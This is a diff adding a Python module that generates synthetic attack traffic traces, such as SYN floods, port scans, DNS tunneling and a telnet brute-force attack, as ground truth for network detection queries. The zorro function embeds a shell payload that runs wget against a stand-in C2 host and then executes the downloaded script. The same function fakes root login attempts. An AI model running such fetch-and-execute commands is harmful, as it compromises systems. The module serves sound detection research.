@@ -1,0 +1,420 @@
+"""Attack-traffic injectors: the "needles" the Table 3 queries hunt for.
+
+Each function returns a :class:`~repro.packets.trace.Trace` that can be
+merged into a backbone trace with :meth:`Trace.merge`. All are
+deterministic given a seed, and all parameters are chosen to sit clearly
+above the corresponding query's detection threshold so ground truth is
+unambiguous in tests.
+"""
+
+from __future__ import annotations
+
+import numpy as np
+
+from repro.core.fields import (
+    PROTO_TCP,
+    PROTO_UDP,
+    TCP_ACK,
+    TCP_PSH,
+    TCP_SYN,
+)
+from repro.packets.generator import RowBuilder
+from repro.packets.trace import Trace
+
+
+def _rng(seed: int) -> np.random.Generator:
+    return np.random.default_rng(seed)
+
+
+def syn_flood(
+    victim: int,
+    start: float = 0.0,
+    duration: float = 10.0,
+    pps: float = 400.0,
+    n_sources: int = 2_000,
+    dport: int = 80,
+    seed: int = 1,
+) -> Trace:
+    """A SYN flood: many spoofed sources send bare SYNs to one victim."""
+    rng = _rng(seed)
+    count = int(duration * pps)
+    builder = RowBuilder()
+    builder.add(
+        count,
+        ts=start + np.sort(rng.uniform(0, duration, count)),
+        pktlen=60,
+        proto=PROTO_TCP,
+        sip=rng.integers(1, 1 << 32, size=count, dtype=np.uint64) % (1 << 32),
+        dip=victim,
+        sport=rng.integers(1024, 65536, size=count),
+        dport=dport,
+        tcpflags=TCP_SYN,
+    )
+    return builder.build()
+
+
+def ddos(
+    victim: int,
+    start: float = 0.0,
+    duration: float = 10.0,
+    n_sources: int = 600,
+    packets_per_source: int = 4,
+    seed: int = 2,
+) -> Trace:
+    """Volumetric DDoS: many distinct sources target one destination."""
+    rng = _rng(seed)
+    sources = rng.integers(1, 1 << 32, size=n_sources, dtype=np.uint64) % (1 << 32)
+    idx = np.repeat(np.arange(n_sources), packets_per_source)
+    count = len(idx)
+    builder = RowBuilder()
+    builder.add(
+        count,
+        ts=start + rng.uniform(0, duration, count),
+        pktlen=rng.integers(60, 1200, size=count),
+        proto=PROTO_TCP,
+        sip=sources[idx],
+        dip=victim,
+        sport=rng.integers(1024, 65536, size=count),
+        dport=80,
+        tcpflags=TCP_ACK,
+    )
+    return builder.build()
+
+
+def superspreader(
+    source: int,
+    start: float = 0.0,
+    duration: float = 10.0,
+    n_destinations: int = 800,
+    packets_per_destination: int = 2,
+    seed: int = 3,
+) -> Trace:
+    """One source contacts many distinct destinations (scanning/worm)."""
+    rng = _rng(seed)
+    dests = rng.integers(1, 1 << 32, size=n_destinations, dtype=np.uint64) % (1 << 32)
+    idx = np.repeat(np.arange(n_destinations), packets_per_destination)
+    count = len(idx)
+    builder = RowBuilder()
+    builder.add(
+        count,
+        ts=start + rng.uniform(0, duration, count),
+        pktlen=60,
+        proto=PROTO_TCP,
+        sip=source,
+        dip=dests[idx],
+        sport=rng.integers(1024, 65536, size=count),
+        dport=rng.choice(np.array([80, 443, 445, 3389]), size=count),
+        tcpflags=TCP_SYN,
+    )
+    return builder.build()
+
+
+def port_scan(
+    scanner: int,
+    victim: int,
+    start: float = 0.0,
+    duration: float = 8.0,
+    n_ports: int = 500,
+    seed: int = 4,
+) -> Trace:
+    """Vertical port scan: one source probes many ports on one host."""
+    rng = _rng(seed)
+    ports = rng.choice(np.arange(1, 65536), size=n_ports, replace=False)
+    builder = RowBuilder()
+    builder.add(
+        n_ports,
+        ts=start + np.sort(rng.uniform(0, duration, n_ports)),
+        pktlen=60,
+        proto=PROTO_TCP,
+        sip=scanner,
+        dip=victim,
+        sport=rng.integers(1024, 65536, size=n_ports),
+        dport=ports,
+        tcpflags=TCP_SYN,
+    )
+    return builder.build()
+
+
+def ssh_brute_force(
+    victim: int,
+    start: float = 0.0,
+    duration: float = 10.0,
+    n_attackers: int = 120,
+    attempts_per_attacker: int = 6,
+    probe_len: int = 128,
+    seed: int = 5,
+) -> Trace:
+    """SSH brute forcing: many clients send same-sized auth packets to :22."""
+    rng = _rng(seed)
+    attackers = rng.integers(1, 1 << 32, size=n_attackers, dtype=np.uint64) % (1 << 32)
+    idx = np.repeat(np.arange(n_attackers), attempts_per_attacker)
+    count = len(idx)
+    builder = RowBuilder()
+    builder.add(
+        count,
+        ts=start + rng.uniform(0, duration, count),
+        pktlen=probe_len,
+        proto=PROTO_TCP,
+        sip=attackers[idx],
+        dip=victim,
+        sport=rng.integers(1024, 65536, size=count),
+        dport=22,
+        tcpflags=TCP_ACK | TCP_PSH,
+    )
+    return builder.build()
+
+
+def slowloris(
+    victim: int,
+    start: float = 0.0,
+    duration: float = 12.0,
+    n_connections: int = 900,
+    bytes_per_connection: int = 120,
+    seed: int = 6,
+) -> Trace:
+    """Slowloris: many connections to one host, each with tiny volume.
+
+    The Query 2 signature is a high connections-per-byte ratio: the attack
+    opens ``n_connections`` distinct (sIP, sPort) pairs but sends only a
+    trickle of bytes on each.
+    """
+    rng = _rng(seed)
+    n_bots = max(n_connections // 16, 1)
+    bots = rng.integers(1, 1 << 32, size=n_bots, dtype=np.uint64) % (1 << 32)
+    conn_bot = rng.integers(0, n_bots, size=n_connections)
+    conn_sport = rng.integers(1024, 65536, size=n_connections)
+    builder = RowBuilder()
+    # Each connection: SYN + two tiny header-fragment packets.
+    for packets, flags, length in (
+        (1, TCP_SYN, 60),
+        (2, TCP_ACK | TCP_PSH, max(bytes_per_connection // 2, 52)),
+    ):
+        idx = np.repeat(np.arange(n_connections), packets)
+        count = len(idx)
+        builder.add(
+            count,
+            ts=start + rng.uniform(0, duration, count),
+            pktlen=length,
+            proto=PROTO_TCP,
+            sip=bots[conn_bot[idx]],
+            dip=victim,
+            sport=conn_sport[idx],
+            dport=80,
+            tcpflags=flags,
+        )
+    return builder.build()
+
+
+def incomplete_flows(
+    victim: int,
+    start: float = 0.0,
+    duration: float = 10.0,
+    n_flows: int = 700,
+    seed: int = 7,
+) -> Trace:
+    """TCP connections that SYN but never FIN (half-open floods)."""
+    rng = _rng(seed)
+    builder = RowBuilder()
+    builder.add(
+        n_flows,
+        ts=start + rng.uniform(0, duration, n_flows),
+        pktlen=60,
+        proto=PROTO_TCP,
+        sip=rng.integers(1, 1 << 32, size=n_flows, dtype=np.uint64) % (1 << 32),
+        dip=victim,
+        sport=rng.integers(1024, 65536, size=n_flows),
+        dport=443,
+        tcpflags=TCP_SYN,
+    )
+    return builder.build()
+
+
+def dns_tunnel(
+    client: int,
+    resolver: int,
+    start: float = 0.0,
+    duration: float = 10.0,
+    n_lookups: int = 400,
+    domain: str = "exfil.badtunnel.com",
+    seed: int = 8,
+) -> Trace:
+    """DNS tunneling: a host resolves many unique subdomains of one zone."""
+    rng = _rng(seed)
+    qnames = [f"c{rng.integers(1 << 30):08x}.{domain}" for _ in range(n_lookups)]
+    sports = rng.integers(1024, 65536, size=n_lookups)
+    ts_q = start + np.sort(rng.uniform(0, duration, n_lookups))
+    builder = RowBuilder()
+    builder.add(
+        n_lookups,
+        ts=ts_q,
+        pktlen=rng.integers(80, 200, size=n_lookups),
+        proto=PROTO_UDP,
+        sip=client,
+        dip=resolver,
+        sport=sports,
+        dport=53,
+        dns_qtype=16,  # TXT
+        dns_qr=0,
+        dns_name_id=np.arange(n_lookups),
+    )
+    builder.add(
+        n_lookups,
+        ts=ts_q + rng.exponential(0.01, n_lookups),
+        pktlen=rng.integers(200, 400, size=n_lookups),
+        proto=PROTO_UDP,
+        sip=resolver,
+        dip=client,
+        sport=53,
+        dport=sports,
+        dns_qtype=16,
+        dns_qr=1,
+        dns_ancount=1,
+        dns_name_id=np.arange(n_lookups),
+    )
+    return builder.build(qnames=qnames)
+
+
+def dns_reflection(
+    victim: int,
+    start: float = 0.0,
+    duration: float = 10.0,
+    n_resolvers: int = 300,
+    responses_per_resolver: int = 5,
+    seed: int = 9,
+) -> Trace:
+    """DNS amplification: unsolicited large responses flood the victim."""
+    rng = _rng(seed)
+    resolvers = rng.integers(1, 1 << 32, size=n_resolvers, dtype=np.uint64) % (1 << 32)
+    idx = np.repeat(np.arange(n_resolvers), responses_per_resolver)
+    count = len(idx)
+    builder = RowBuilder()
+    builder.add(
+        count,
+        ts=start + rng.uniform(0, duration, count),
+        pktlen=rng.integers(1200, 1500, size=count),
+        proto=PROTO_UDP,
+        sip=resolvers[idx],
+        dip=victim,
+        sport=53,
+        dport=rng.integers(1024, 65536, size=count),
+        dns_qtype=255,  # ANY
+        dns_qr=1,
+        dns_ancount=rng.integers(8, 20, size=count),
+        dns_name_id=np.zeros(count, dtype=np.int64),
+    )
+    return builder.build(qnames=["amplifier.example.org"])
+
+
+def zorro(
+    victim: int,
+    start: float = 10.0,
+    probe_duration: float = 8.0,
+    n_probes: int = 300,
+    probe_len: int = 96,
+    shell_delay: float = 10.0,
+    n_shell_packets: int = 5,
+    seed: int = 10,
+) -> Trace:
+    """The Zorro telnet attack of Query 3 and the Figure 9 case study.
+
+    Phase 1 (``start`` .. ``start+probe_duration``): brute-force login —
+    many similar-sized telnet packets to the victim. Phase 2 (at
+    ``start+shell_delay``): the attacker has shell access and sends a few
+    packets whose payload contains the keyword ``zorro``.
+    """
+    rng = _rng(seed)
+    attackers = rng.integers(1, 1 << 32, size=24, dtype=np.uint64) % (1 << 32)
+    idx = rng.integers(0, len(attackers), size=n_probes)
+    builder = RowBuilder()
+    payloads: list[bytes] = []
+    # Phase 1: similar-sized login probes (quantized-length signature).
+    probe_payloads = []
+    for i in range(n_probes):
+        body = b"login: root\r\npassword: " + bytes(
+            f"{rng.integers(1 << 20):06d}", "ascii"
+        )
+        probe_payloads.append(body)
+    payload_ids = np.arange(n_probes)
+    payloads.extend(probe_payloads)
+    builder.add(
+        n_probes,
+        ts=start + np.sort(rng.uniform(0, probe_duration, n_probes)),
+        pktlen=probe_len + rng.integers(0, 4, size=n_probes),
+        proto=PROTO_TCP,
+        sip=attackers[idx],
+        dip=victim,
+        sport=rng.integers(1024, 65536, size=n_probes),
+        dport=23,
+        tcpflags=TCP_ACK | TCP_PSH,
+        payload_id=payload_ids,
+    )
+    # Phase 2: shell commands carrying the keyword.
+    shell_ts = start + shell_delay + np.sort(rng.uniform(0, 1.0, n_shell_packets))
+    shell_ids = np.arange(n_shell_packets) + len(payloads)
+    payloads.extend(
+        b"cd /tmp; wget http://c2.example/zorro.sh; sh zorro.sh"
+        for _ in range(n_shell_packets)
+    )
+    builder.add(
+        n_shell_packets,
+        ts=shell_ts,
+        pktlen=probe_len,
+        proto=PROTO_TCP,
+        sip=attackers[0],
+        dip=victim,
+        sport=rng.integers(1024, 65536, size=n_shell_packets),
+        dport=23,
+        tcpflags=TCP_ACK | TCP_PSH,
+        payload_id=shell_ids,
+    )
+    return builder.build(payloads=payloads)
+
+
+def dns_domain_flood(
+    domain: str,
+    resolver: int,
+    start: float = 0.0,
+    duration: float = 10.0,
+    n_clients: int = 400,
+    seed: int = 11,
+) -> Trace:
+    """Many distinct clients resolve one (malicious) domain.
+
+    The signature of a freshly-registered C2 / phishing domain: an abrupt
+    population of resolvers for a name nobody queried before. Drives the
+    malicious-domain extension query, whose refinement key is the DNS name
+    hierarchy (§4.1 of the paper).
+    """
+    rng = _rng(seed)
+    clients = rng.integers(1, 1 << 32, size=n_clients, dtype=np.uint64) % (1 << 32)
+    sports = rng.integers(1024, 65536, size=n_clients)
+    ts_q = start + rng.uniform(0, duration, n_clients)
+    builder = RowBuilder()
+    builder.add(
+        n_clients,
+        ts=ts_q,
+        pktlen=rng.integers(60, 90, size=n_clients),
+        proto=PROTO_UDP,
+        sip=clients,
+        dip=resolver,
+        sport=sports,
+        dport=53,
+        dns_qtype=1,
+        dns_qr=0,
+        dns_name_id=np.zeros(n_clients, dtype=np.int64),
+    )
+    builder.add(
+        n_clients,
+        ts=ts_q + rng.exponential(0.01, n_clients),
+        pktlen=rng.integers(90, 200, size=n_clients),
+        proto=PROTO_UDP,
+        sip=resolver,
+        dip=clients,
+        sport=53,
+        dport=sports,
+        dns_qtype=1,
+        dns_qr=1,
+        dns_ancount=1,
+        dns_name_id=np.zeros(n_clients, dtype=np.int64),
+    )
+    return builder.build(qnames=[domain])
